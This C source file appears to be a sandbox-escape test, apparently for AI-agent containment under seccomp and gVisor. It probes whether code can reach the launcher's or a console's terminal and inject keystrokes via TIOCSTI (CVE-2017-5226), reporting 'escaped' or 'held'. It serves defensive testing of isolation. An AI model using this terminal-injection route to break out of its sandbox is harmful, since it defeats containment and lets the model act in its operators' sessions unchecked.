// title: get a terminal and type into it: the launcher's, a console's, or one of our own making
// wall: seccomp_ioctl
// gvisor: seccomp_ioctl
// source: CVE-2017-5226 (TIOCSTI)
#include "attack.h"
#include <sys/ioctl.h>

int
main(void)
{
    static const char *const paths[] = { "/dev/tty",   "/dev/console", "/dev/tty0",
                                         "/dev/tty1",  "/dev/ptmx",    "/dev/pts/ptmx",
                                         "/dev/pts/0", "/dev/vcs",     "/dev/ttyS0" };
    char byte = '#';

    if (getsid(0) != getpid() && getsid(0) <= 1) {
        escaped("the session is the agent's");
    }
    for (int fd = 0; fd < 3; fd++) {
        if (isatty(fd) || ioctl(fd, TIOCSTI, &byte) == 0) {
            escaped("descriptor %d is a terminal", fd);
        }
        /* What the kernel says of something that is no terminal: it was asked. */
        if (errno != EPERM) {
            escaped("typing into a terminal is up to the kernel: %s", strerror(errno));
        }
    }
    for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
        int fd = open(paths[i], O_RDWR | O_NOCTTY | O_NONBLOCK);

        /* gVisor has pseudo terminals of its own, which nobody else is at. */
        if (fd >= 0 && (strstr(paths[i], "ptmx") == NULL || ioctl(fd, TIOCSTI, &byte) == 0)) {
            escaped("opened %s", paths[i]);
        }
    }
    held("no terminal: %s", strerror(errno));
}
